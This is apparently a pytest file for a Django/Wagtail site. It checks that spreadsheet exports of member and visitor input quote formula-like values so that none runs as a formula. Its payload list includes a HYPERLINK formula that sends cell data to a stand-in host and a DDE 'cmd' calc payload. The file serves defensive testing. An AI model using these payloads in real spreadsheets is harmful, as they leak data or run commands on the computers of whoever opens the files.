"""Every spreadsheet the platform writes keeps member and visitor input inert: no cell runs as a formula."""

import csv
import datetime
import io
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.contrib.auth import get_user_model
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets
from wagtail.contrib.forms.models import FormSubmission

from tests.factories.directory import OrganizationFactory
from tests.factories.website import FormFieldFactory, FormPageFactory
from website.groups import EDITORS, MODERATORS, setup_groups
from website.models import FormPage
from website.spreadsheets import Column, SafeSpreadsheetExportMixin, csv_cell, csv_lines, safe_cell, write_xlsx

# Every app of this repository (not Wagtail's or a library's): a new app's viewsets are checked unlisted.
PROJECT_APPS = tuple(
    config.name
    for config in apps.get_app_configs()
    if Path(config.path).is_relative_to(settings.BASE_DIR) and ".venv" not in Path(config.path).parts
)
# Values a member or a visitor could type, each one a formula in a spreadsheet program.
MALICIOUS = [
    '=HYPERLINK("http://rau.example/?d="&A1;"Clic")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]
# Through the admin, a few of them: the writer treats them all alike (tested above).
THROUGH_THE_ADMIN = [MALICIOUS[0], MALICIOUS[1], MALICIOUS[4], MALICIOUS[6]]


def as_read_from_xlsx(value):
    # XML reads a carriage return back as a line feed: still text.
    return value.replace("\r", "\n")


@pytest.mark.parametrize("value", MALICIOUS)
def test_safe_cell_quotes_formulas(value):
    assert safe_cell(value) == "'" + value
    assert csv_cell(value) == "'" + value
    assert csv_cell([value, "mediu"]) == "'" + value + "; mediu"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Asociația Șoimii", "Asociația Șoimii"),
        ("+40 21 305 55 00", "+40 21 305 55 00"),  # a phone number is data, not a formula
        ("030203", "030203"),
        (True, "da"),
        (False, "nu"),
        (None, ""),
        (12, "12"),
        (datetime.datetime(2026, 11, 25, 10, 30, tzinfo=datetime.UTC), "2026-11-25 12:30:00+02:00"),
    ],
)
def test_csv_cell_leaves_data_as_it_is(value, cell):
    assert csv_cell(value) == cell


def test_csv_lines_start_with_a_byte_order_mark_and_round_trip():
    text = "".join(csv_lines(["nume", "mesaj"], [["Ana", MALICIOUS[0]], ["Ion", "text, cu virgulă"]]))
    assert text.startswith("\ufeffnume,mesaj\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[1] == ["Ana", "'" + MALICIOUS[0]]
    assert rows[2] == ["Ion", "text, cu virgulă"]


def test_xlsx_cells_are_text_dates_and_codes():
    output = io.BytesIO()
    published = datetime.datetime(2026, 11, 25, 10, 30, 15, 123456, tzinfo=datetime.UTC)
    write_xlsx(
        output,
        columns=[Column("Nume", width=30), Column("Cod poștal", text=True), Column("Data"), Column("Da?")],
        rows=[[MALICIOUS[0], "030203", published, True], ["Cu \x07clopoțel", "", datetime.date(2026, 1, 2), False]],
        sheet_title="Organizații: [test]",
    )
    sheet = load_workbook(output).active
    assert sheet.title == "Organizații   test "
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 30
    header, first, second = sheet.iter_rows()
    assert [cell.value for cell in header] == ["Nume", "Cod poștal", "Data", "Da?"]
    assert header[0].font.bold
    assert first[0].value == MALICIOUS[0]
    assert first[0].data_type == "s"
    assert first[0].quotePrefix
    assert (first[1].value, first[1].data_type, first[1].number_format) == ("030203", "s", "@")
    assert first[2].value == datetime.datetime(2026, 11, 25, 12, 30, 15)  # Bucharest time
    assert first[2].is_date
    assert first[3].value == "da"
    assert second[0].value == "Cu clopoțel"  # XML cannot hold the control character: dropped, not a 500
    assert second[2].value.date() == datetime.date(2026, 1, 2)
    assert second[3].value == "nu"


# Wagtail's admin exports: every index view of the project's viewsets and the form-submission listing.


def test_every_project_viewset_exports_through_the_safe_writer(client, db):
    client.get(reverse("wagtailadmin_login"))  # loads the admin URLs, which register the viewsets
    exporting = []
    for viewset in viewsets.viewsets:
        if not hasattr(viewset, "index_view_class") or not type(viewset).__module__.startswith(PROJECT_APPS):
            continue
        view = viewset.index_view
        if view.view_initkwargs.get("list_export", view.view_class.list_export):  # no columns, no data
            exporting.append(type(viewset).__name__)
            assert issubclass(view.view_class, SafeSpreadsheetExportMixin), type(viewset).__name__
    assert {"OrganizationViewSet", "ResponseViewSet"} <= set(exporting), exporting
    assert issubclass(FormPage().get_submissions_list_view_class(), SafeSpreadsheetExportMixin)


@pytest.fixture
def staff(db):
    groups = setup_groups()

    def member_of(group):
        user = get_user_model().objects.create_user(group.lower(), f"{group.lower()}@example.org", "parola-staff")
        user.groups.add(groups[group])
        return user

    return member_of


def csv_export(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def xlsx_export(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    header, *rows = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.iter_rows()
    return [dict(zip([cell.value for cell in header], row, strict=True)) for row in rows]


@pytest.mark.parametrize("value", THROUGH_THE_ADMIN)
def test_organization_admin_exports_are_inert(client, home_page, staff, value):
    # A member registers an organization: it waits, as a draft, in the moderator's listing.
    OrganizationFactory(name=value, slug="formula", short_name="=1+2", postal_code="030203", publish=False)
    client.force_login(staff(MODERATORS))
    url = reverse("wagtailsnippets_directory_organization:list")

    (row,) = csv_export(client.get(url, {"export": "csv"}))
    assert row["Nume"] == "'" + value
    assert row["Nume scurt"] == "'=1+2"
    assert row["Cod poștal"] == "030203"
    assert row["Verificată de echipă"] == "nu"

    (row,) = xlsx_export(client.get(url, {"export": "xlsx"}))
    assert row["Nume"].value == as_read_from_xlsx(value)
    assert row["Nume"].data_type == "s"
    assert row["Nume"].quotePrefix
    assert row["Cod poștal"].value == "030203"


@pytest.fixture
def contact_form(home_page):
    page = FormPageFactory(parent=home_page)
    FormFieldFactory(page=page, label="Nume", clean_name="nume")
    FormFieldFactory(page=page, label="Mesaj", clean_name="mesaj", field_type="multiline")
    return page


@pytest.mark.parametrize("value", THROUGH_THE_ADMIN)
def test_form_submission_exports_are_inert(client, contact_form, staff, value):
    # An anonymous visitor posts the contact form.
    FormSubmission.objects.create(page=contact_form, form_data={"nume": "Ana", "mesaj": value})
    client.force_login(staff(EDITORS))
    url = reverse("wagtailforms:list_submissions", args=[contact_form.pk])

    (row,) = csv_export(client.get(url, {"export": "csv"}))
    assert row["Mesaj"] == "'" + value
    assert row["Nume"] == "Ana"

    (row,) = xlsx_export(client.get(url, {"export": "xlsx"}))
    assert row["Mesaj"].value == as_read_from_xlsx(value)
    assert row["Mesaj"].data_type == "s"
    assert row["Mesaj"].quotePrefix
    submitted = row[next(heading for heading in row if heading not in ("Nume", "Mesaj"))]
    assert submitted.is_date
    assert abs(submitted.value - timezone.make_naive(timezone.now())) < datetime.timedelta(minutes=5)


def test_the_site_history_report_export_is_inert(client, home_page, staff):
    # A member-typed organization name reaches the admin's "Site history" report through its revisions.
    organization = OrganizationFactory(name='=HYPERLINK("http://example.com","x")', publish=False)
    organization.save_revision(log_action=True)
    client.force_login(get_user_model().objects.create_superuser("admin", "admin@example.org", "parola-admin"))
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    rows = csv_export(response)
    cells = [cell for row in rows for cell in row.values() if cell and "HYPERLINK" in cell]
    assert cells
    assert all(cell.startswith("'") for cell in cells)


def test_the_reports_keep_wagtails_permission_checks(client, home_page):
    member = get_user_model().objects.create_user("membru", "membru@example.org", "parola-membru")
    client.force_login(member)
    for name in ("site_history", "workflow", "workflow_tasks", "locked_pages", "aging_pages"):
        response = client.get(reverse(f"wagtailadmin_reports:{name}"), {"export": "csv"})
        assert response.status_code in (302, 403), name
